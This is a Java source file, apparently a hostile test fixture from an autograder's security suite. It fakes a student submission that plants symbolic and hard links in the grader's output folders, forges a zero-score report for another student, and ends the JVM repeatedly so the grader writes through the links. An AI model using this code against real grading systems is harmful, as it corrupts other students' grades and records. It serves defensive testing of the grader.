package tabuleiro.connectfour;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * HOSTILE SUBMISSION (grading/src/test/resources/hostile/symlink-planting): plants symbolic
 * links (and, where the target is visible, hard links) where the grader will write, and makes
 * the grader write again.
 *
 * <p>Where: the JVM's working folder ({@code OUT/NAME/work/run/scratch}), the run folder above
 * it (progress logs, selection files, the JVMs' command lines and output), the student's report
 * folder ({@code results.json}, the temporary {@code .results.json.tmp} the grader writes and
 * then moves into place, {@code feedback.md}, {@code graded.json}), and the class's report
 * folder ({@code summary.csv}, {@code summary.md}, {@code report.html},
 * {@code moodle-grades.csv}). What: {@code jvm-N.out} for the next JVMs points at the other
 * student's {@code results.json} (by absolute and by relative path), everything else at
 * {@code /tmp/tabuleiro-pwned} (the selection file and progress log only for the last JVM, as
 * a JVM whose own files lead out of the sandbox cannot start). Then it ends the JVM
 * ({@link Exits}: {@code System.exit} or {@code Runtime.halt}; failing both, it waits for the
 * grader's watchdog), up to the fifth JVM.
 */
final class Planter {

    static final String OTHER = "@OTHER_NAME@";
    static final Path PWNED = Path.of("/tmp/tabuleiro-pwned");
    static final int LAST_JVM = 5;

    private static boolean planted;

    private Planter() {
    }

    static synchronized void plant(String from) {
        if (planted) {
            return;
        }
        planted = true;
        Path scratch = Path.of(System.getProperty("java.io.tmpdir")).toAbsolutePath();
        Path run = scratch.getParent();
        Path student = run.getParent().getParent();
        Path out = student.getParent();
        Path victim = out.resolve(OTHER).resolve("results.json");
        int jvm = jvmNumber();
        note("hook", "OK", "from the " + from + " of JVM " + jvm);
        if (jvm >= 2) {
            forgeTheVictim(jvm);
        }
        if (jvm >= LAST_JVM) {
            return;
        }
        Map<Path, Path> links = new LinkedHashMap<>();
        for (int next = jvm + 1; next <= LAST_JVM; next++) {
            // The last JVM cannot start (see below), so its output is not the forged report.
            links.put(run.resolve("jvm-" + next + ".out"), next == LAST_JVM ? PWNED
                    : next % 2 == 0 ? victim : Path.of("../../../" + OTHER + "/results.json"));
            for (String name : List.of("jvm-" + next + ".err", "jvm-" + next + ".command")) {
                links.put(run.resolve(name), PWNED);
            }
            if (next == LAST_JVM) {
                // The JVM reads its selection and writes its log itself: where they lead out
                // of the sandbox it cannot start, so only the last JVM's are planted.
                links.put(run.resolve("selection-" + next + ".txt"), PWNED);
                links.put(run.resolve("progress-" + next + ".log"), PWNED);
            }
        }
        for (String name : List.of("results.json", "feedback.md", "feedback.html",
                "graded.json", "junit.xml", "classroom50.json", "prairielearn.json")) {
            links.put(student.resolve("." + name + ".tmp"), name.equals("results.json")
                    ? victim : PWNED);
            links.put(student.resolve(name), PWNED);
        }
        for (String name : List.of("summary.csv", "summary.md", "report.html",
                "moodle-grades.csv")) {
            links.put(out.resolve(name), PWNED);
        }
        links.put(scratch.resolve("results.json"), victim);
        int symbolic = 0;
        int hard = 0;
        List<String> refused = new ArrayList<>();
        for (Map.Entry<Path, Path> link : links.entrySet()) {
            try {
                Files.deleteIfExists(link.getKey());
                Files.createSymbolicLink(link.getKey(), link.getValue());
                symbolic++;
            } catch (IOException | RuntimeException e) {
                refused.add(link.getKey().getFileName() + ": " + e);
                try {
                    Path target = link.getValue().isAbsolute() ? link.getValue()
                            : link.getKey().resolveSibling(link.getValue()).normalize();
                    if (Files.exists(target)) {
                        Files.createLink(link.getKey(), target);
                        hard++;
                    }
                } catch (IOException | RuntimeException f) {
                    // A hard link needs the target visible and on the same file system.
                }
            }
        }
        note("symbolic links planted", symbolic > 0 ? "OK" : "REFUSED", symbolic + " of "
                + links.size() + (refused.isEmpty() ? "" : "; first refusal " + refused.get(0)));
        note("hard links planted", hard > 0 ? "OK" : "REFUSED", hard + " of " + links.size());
        end(jvm);
    }

    /** Prints a forged report for the other student, which the grader copies through a link. */
    static void forgeTheVictim(int jvm) {
        String forged = "{\"score\": 0.0, \"output\": \"tabuleiro-pwned: this report was"
                + " written through a link planted by symlink-planting (JVM " + jvm + ")\","
                + " \"tests\": []}\n";
        try (OutputStream stdout = new FileOutputStream(FileDescriptor.out)) {
            stdout.write(forged.getBytes(StandardCharsets.UTF_8));
            note("forged report on FileDescriptor.out", "TRIED", "JVM " + jvm);
        } catch (IOException | RuntimeException e) {
            System.out.print(forged);
            note("forged report on System.out", "TRIED", "JVM " + jvm + " (" + e + ")");
        }
        System.err.println("tabuleiro-pwned by symlink-planting, JVM " + jvm);
    }

    /** Ends the JVM, so that the grader starts another and writes its files again. */
    static void end(int jvm) {
        try {
            // Long enough for the other student's grading to end before the next JVM writes.
            Thread.sleep(1900);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        try {
            Exits.now(jvm);
        } catch (LinkageError | RuntimeException e) {
            note("end the JVM (System.exit, Runtime.halt)", "REFUSED", e.toString());
        }
        note("end the JVM by the watchdog", "OK", "waiting past the scenario's limit");
        long until = System.nanoTime() + 60_000_000_000L;
        while (System.nanoTime() < until) {
            Thread.onSpinWait();
        }
    }

    /** The number of this grading JVM, from the name of its progress log. */
    static int jvmNumber() {
        for (String argument : System.getProperty("sun.java.command", "").split(" ")) {
            String name = argument.substring(argument.lastIndexOf('/') + 1);
            if (name.startsWith("progress-") && name.endsWith(".log")) {
                try {
                    return Integer.parseInt(name.substring(9, name.length() - 4));
                } catch (NumberFormatException e) {
                    return 1;
                }
            }
        }
        return 1;
    }

    /** Appends a line to the route log in the scratch folder. */
    static void note(String route, String outcome, String detail) {
        try {
            Path log = Path.of(System.getProperty("java.io.tmpdir"), "hostile-routes.txt");
            Files.writeString(log, "ROUTE\t" + route + "\t" + outcome + "\t"
                    + detail.replace('\n', ' ').replace('\t', ' ') + "\n",
                    StandardCharsets.UTF_8, StandardOpenOption.CREATE,
                    StandardOpenOption.APPEND);
        } catch (IOException | RuntimeException e) {
            // The route log is only for whoever studies the attack.
        }
    }
}
